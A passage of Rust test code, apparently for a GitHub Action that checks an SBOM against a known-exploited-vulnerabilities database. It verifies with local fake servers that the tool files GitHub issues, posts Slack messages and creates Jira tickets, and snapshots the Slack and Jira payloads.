        let db = build_kev_hits_db(tmp.path());
        fs_err::copy(
            fixture("kev-hits/sboms/other-cdxgen-cdx1.5-webgoat-maven-npm.json"),
            tmp.path().join("sbom.json"),
        )
        .expect("copy");
        fs_err::write(
            tmp.path().join(".kevgate.yaml"),
            "notify:\n  slack: [kev]\n  jira: [kev]\njira:\n  project: SEC\n",
        )
        .expect("config");
        let gh = github(vec![]);
        let hook = fake::serve(|_, _, _| (200, "ok", vec![]));
        let site = jira_site();
        let (code, stdout, stderr) = run(crate::action::action(&tmp)
            .env("GITHUB_WORKSPACE", tmp.path())
            .env("GITHUB_EVENT_NAME", "push")
            .env(
                "GITHUB_EVENT_PATH",
                fixture("github/push.with-new-branch.payload.json"),
            )
            .env("GITHUB_REF", "refs/heads/master")
            .env("GITHUB_API_URL", &gh.url)
            .env("KEVGATE_GITHUB_SPACING_MS", "0")
            .env("INPUT_SBOM", "sbom.json")
            .env("INPUT_DB", &db)
            .env("INPUT_TRACK", "kev")
            .env(
                "KEVGATE_SLACK_WEBHOOK",
                format!("{}{WEBHOOK_PATH}", hook.url),
            )
            .env("KEVGATE_JIRA_URL", &site.url)
            .env("KEVGATE_JIRA_USER", "bot@example.com")
            .env("KEVGATE_JIRA_TOKEN", JIRA_TOKEN));
        assert_eq!(code, 1, "{stdout}{stderr}");
        assert_quiet(&stdout, &stderr);
        let created = requests(&gh)
            .iter()
            .filter(|r| r.method == "POST" && r.path.ends_with("/issues"))
            .count();
        assert_eq!(created, 2, "{stderr}");
        assert_eq!(requests(&hook).len(), 2, "{stdout}{stderr}");
        let jira_creates = requests(&site)
            .iter()
            .filter(|r| r.path == "/rest/api/3/issue")
            .count();
        assert_eq!(jira_creates, 2);
    }
}

/// What a "fixed" Slack message and a new Jira issue look like, field by field.
#[test]
fn payload_snapshots() {
    insta::assert_json_snapshot!(
        "slack-fixed",
        slack::message(&event(1, TransitionKind::Fixed))
    );
    let settings = settings();
    let cfg = settings.jira.as_ref().expect("jira configured");
    insta::assert_json_snapshot!(
        "jira-create",
        jira::create_body(&event(1, TransitionKind::Opened), cfg)
    );
}
